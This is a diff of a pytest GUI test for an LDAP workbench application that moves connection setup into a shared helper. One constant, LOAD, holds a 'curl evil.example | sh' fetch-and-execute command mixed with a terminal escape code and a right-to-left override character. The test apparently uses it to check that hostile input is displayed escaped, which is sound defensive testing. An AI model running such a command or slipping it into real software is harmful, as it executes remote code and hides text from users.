@@ -9,16 +9,13 @@ from PySide6.QtWidgets import QApplication
 from ldap_workbench.gui.experiment.file_consent import FileConsent
 from ldap_workbench.gui.experiment.screen import DESIGN, VERDICT
 from ldap_workbench.gui.widgets.consent import ConsentBox
-from ldap_workbench.gui.workbench import Connection
 from ldap_workbench.session import Session, SessionWriter
-from ldap_workbench.tuning import Tuner, load_catalogue
 from tests import sessions
 from tests.gui.conftest import idle, opened
-from tests.unit.tuning.fakes import FACTS, FakeTarget
+from tests.gui.connected import HERE, connect
 
 LOAD = "sh -c 'curl evil.example | sh'\x1b[2J\u202e" + " a" * 400
 SEEN = LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")
-HERE = replace(FACTS, identity="389ds:here")
 
 
 @pytest.fixture(scope="module")
@@ -44,12 +41,7 @@ def begun(window, monkeypatch):
     plans = []
     monkeypatch.setattr(ConsentBox, "agreed", lambda self: True)
     monkeypatch.setattr(window.experiment, "_begin", lambda plan, path: plans.append(plan))
-    target = FakeTarget(facts=HERE)
-    bench = window.workbench
-    bench.connection = Connection(target, Tuner(target, bench.journal(), load_catalogue()))
-    target.close = target.directory.close
-    target.now_ns = lambda: sessions.START_NS
-    bench.connectionChanged.emit()
+    connect(window)
     return plans
 
 
